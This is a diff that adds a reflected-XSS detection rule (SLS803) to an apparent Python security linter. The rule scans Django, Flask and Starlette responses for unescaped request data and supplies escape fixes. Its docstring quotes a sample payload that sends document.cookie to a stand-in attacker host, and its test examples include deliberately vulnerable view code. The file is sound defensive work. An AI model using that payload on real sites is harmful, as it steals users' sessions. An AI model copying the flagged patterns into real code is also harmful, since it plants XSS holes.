@@ -1,0 +1,186 @@
+"""SLS803 reflected-xss."""
+
+from __future__ import annotations
+
+import ast
+
+from secure_ls.engine.model import Confidence, Fix, Severity
+from secure_ls.rules._support import html, strings, web
+from secure_ls.rules.base import Example, Rule
+
+# Response constructors whose first argument is the body, by framework family.
+_RESPONSES = {
+    "django.http.HttpResponse": "django",
+    "django.http.response.HttpResponse": "django",
+    "django.http.HttpResponseBadRequest": "django",
+    "django.http.HttpResponseNotFound": "django",
+    "django.http.HttpResponseForbidden": "django",
+    "flask.make_response": "flask",
+    "flask.Response": "flask",
+    "flask.wrappers.Response": "flask",
+    "werkzeug.Response": "flask",
+    "werkzeug.wrappers.Response": "flask",
+    "quart.make_response": "flask",
+    "quart.Response": "flask",
+    "starlette.responses.HTMLResponse": "other",
+    "fastapi.responses.HTMLResponse": "other",
+    "aiohttp.web.Response": "other",
+}
+_CONTENT_KEYWORDS = ("content", "response", "body", "text")
+_TYPE_KEYWORDS = ("content_type", "mimetype", "media_type")
+# Direct (not built) request values: reading them is reflecting them.
+_DIRECT = (ast.Name, ast.Subscript, ast.Attribute)
+
+
+class ReflectedXss(Rule):
+    """
+    ## What it does
+    Finds request data put into an HTML response without escaping: a body
+    built with f-strings, `%`, `.format()` or `+` (or the raw value itself)
+    passed to Django's `HttpResponse`, Flask's `make_response`/`Response`,
+    Starlette's `HTMLResponse`, or returned as a string from a Flask route
+    (which Flask serves as `text/html`).
+
+    ## Why is this bad?
+    A link such as `/search?q=<script>fetch('//evil.example?c='+document.cookie)</script>`
+    makes your page run the attacker's script in the victim's session:
+    it can read the page, act as the user and steal tokens (reflected
+    cross-site scripting).
+
+    ## How to fix it
+    Render a template (autoescaped), or escape every inserted value:
+    `markupsafe.escape(value)` in Flask, `django.utils.html.escape(value)`
+    in Django, `html.escape(value)` elsewhere. The quick fix wraps each
+    request-derived value in the right `escape`. Responses with a non-HTML
+    `content_type`/`mimetype` are not reported.
+    """
+
+    id = "SLS803"
+    name = "reflected-xss"
+    title = "Request data in an HTML response without escaping"
+    cwe = 79
+    severity = Severity.HIGH
+    confidence = Confidence.HIGH
+    topic = "xss"
+    fixable = True
+    calls = frozenset(_RESPONSES)
+
+    VALID = [
+        'from django.http import HttpResponse\nfrom django.utils.html import escape\n\ndef hello(request):\n    return HttpResponse(f"<h1>Hello {escape(request.GET[\'name\'])}</h1>")\n',
+        'from django.http import HttpResponse\n\ndef export(request):\n    return HttpResponse(request.GET["data"], content_type="text/plain")\n',
+        'from flask import Flask, request, render_template\napp = Flask(__name__)\n\n@app.route("/hi")\ndef hi():\n    return render_template("hi.html", name=request.args["name"])\n',
+        'from flask import Flask, request\napp = Flask(__name__)\n\n@app.route("/n")\ndef n():\n    return f"<p>{int(request.args[\'n\']) * 2}</p>"\n',
+        'from django.http import HttpResponse\n\ndef ok(request):\n    return HttpResponse("<p>ok</p>")\n',
+        'def view(request):\n    return f"<p>{request.GET[\'q\']}</p>"\n',
+        'from flask import Flask, request\napp = Flask(__name__)\n\n@app.route("/id")\ndef ident():\n    return f\'{{"id": "{request.args["id"]}"}}\', 200, {"Content-Type": "application/json"}\n',
+    ]
+    INVALID = [
+        Example(
+            'from django.http import HttpResponse\n\ndef hello(request):\n    name = request.GET.get("name", "")\n    return HttpResponse(f"<h1>Hello {name}</h1>")\n',
+            fixed='from django.http import HttpResponse\nfrom django.utils.html import escape\n\ndef hello(request):\n    name = request.GET.get("name", "")\n    return HttpResponse(f"<h1>Hello {escape(name)}</h1>")\n',
+        ),
+        Example(
+            'from flask import Flask, request\napp = Flask(__name__)\n\n@app.route("/search")\ndef search():\n    q = request.args.get("q", "")\n    return "<p>No results for " + q + "</p>", 404\n',
+            fixed='from flask import Flask, request\nfrom markupsafe import escape\napp = Flask(__name__)\n\n@app.route("/search")\ndef search():\n    q = request.args.get("q", "")\n    return "<p>No results for " + escape(q) + "</p>", 404\n',
+        ),
+        Example(
+            'from django.http import HttpResponse\n\ndef page(request):\n    body = "<h1>Results</h1>"\n    body += "<p>" + request.GET["q"] + "</p>"\n    return HttpResponse(body)\n',
+        ),
+        Example(
+            'from django.http import HttpResponse\n\ndef page(request):\n    html = f"<p>{request.GET[\'q\']}</p>"\n    return HttpResponse(html)\n',
+            fixed='from django.http import HttpResponse\nfrom django.utils.html import escape\n\ndef page(request):\n    html = f"<p>{escape(request.GET[\'q\'])}</p>"\n    return HttpResponse(html)\n',
+        ),
+        Example(
+            'from django.http import HttpResponse\n\ndef echo(request):\n    return HttpResponse(request.GET["msg"])\n',
+            fixed='from django.http import HttpResponse\nfrom django.utils.html import escape\n\ndef echo(request):\n    return HttpResponse(escape(request.GET["msg"]))\n',
+        ),
+        Example(
+            'from flask import Flask, make_response\napp = Flask(__name__)\n\n@app.route("/user/<name>")\ndef user(name):\n    return make_response("<h1>%s</h1>" % name)\n',
+            fixed='from flask import Flask, make_response\nfrom markupsafe import escape\napp = Flask(__name__)\n\n@app.route("/user/<name>")\ndef user(name):\n    return make_response("<h1>%s</h1>" % escape(name))\n',
+        ),
+    ]
+
+    def visit_Call(self, node: ast.Call, ctx) -> None:
+        family = _RESPONSES.get(ctx.call_name(node) or "")
+        if family is None:
+            return
+        for kw in node.keywords:
+            if kw.arg in _TYPE_KEYWORDS:
+                value = ctx.string_value(kw.value)
+                if value is None or "html" not in value.lower():
+                    return
+        body = web.argument(node, 0, _CONTENT_KEYWORDS)
+        if body is not None:
+            self._check(body, family, ctx)
+
+    def visit_Return(self, node: ast.Return, ctx) -> None:
+        if node.value is None or not (ctx.imports("flask") or ctx.imports("quart")):
+            return
+        func = ctx.enclosing_function(node)
+        if not web.is_view_function(func) or _is_fastapi(func, ctx):
+            return
+        body = node.value
+        if isinstance(body, ast.Tuple) and body.elts:
+            if any(_non_html_headers(e, ctx) for e in body.elts[1:]):
+                return
+            body = body.elts[0]
+        if isinstance(body, ast.Call):
+            return  # a response object or a call: checked where it is built
+        self._check(body, "flask", ctx)
+
+    def _check(self, body: ast.expr, family: str, ctx) -> None:
+        fixable = True
+        built, _ = web.built_value(ctx, body)
+        if strings.is_built(built):
+            parts = strings.pieces(built)
+            if parts is None:
+                return
+            targets = [v for v in strings.values(parts) if _reflected(v, ctx)]
+        elif isinstance(body, _DIRECT) or _is_request_get(body):
+            targets = [body] if _reflected(body, ctx) else []
+            if isinstance(body, ast.Name) and any(
+                strings.is_built(v) or isinstance(v, ast.Constant) for v in ctx.assigned_values(body)
+            ):
+                fixable = False  # HTML assembled in several steps: escaping the whole of it would be wrong
+        else:
+            return
+        if not targets:
+            return
+        part, worst = web.worst_value(ctx, targets, "html")
+        fix = None
+        found = html.escaper(ctx, family)
+        if fixable and found is not None and all(web.wrappable(ctx, t) for t in targets):
+            func, statement = found
+            fix = Fix(f"Escape the request data with `{func}`", tuple(web.wrap_edits(ctx, targets, func)), safe=True, imports=(statement,))
+        ctx.report(
+            self,
+            worst,
+            f"{web.upper_first(web.describe_value(ctx, part, worst))} is written into an HTML response without escaping "
+            "(cross-site scripting). Escape it or render a template.",
+            fix=fix,
+            confidence=ctx.confidence_for(part),
+            related=ctx.related_path(part),
+        )
+
+
+def _reflected(node: ast.expr, ctx) -> bool:
+    part = ctx.origin(node).risk("html")
+    return web.is_client(part, ctx) and not web.reads_own_url(ctx, part)
+
+
+def _is_request_get(node: ast.expr) -> bool:
+    return isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("get", "getlist", "get_data")
+
+
+def _non_html_headers(node: ast.expr, ctx) -> bool:
+    """`{"Content-Type": "application/json"}` (or a mimetype string) returned with the body."""
+    if isinstance(node, ast.Dict):
+        for key, value in zip(node.keys, node.values, strict=True):
+            if isinstance(key, ast.Constant) and str(key.value).lower() == "content-type":
+                text = ctx.string_value(value)
+                return text is None or "html" not in text.lower()
+    return False
+
+
+def _is_fastapi(func, ctx) -> bool:
+    return ctx.imports("fastapi") or ctx.imports("starlette")
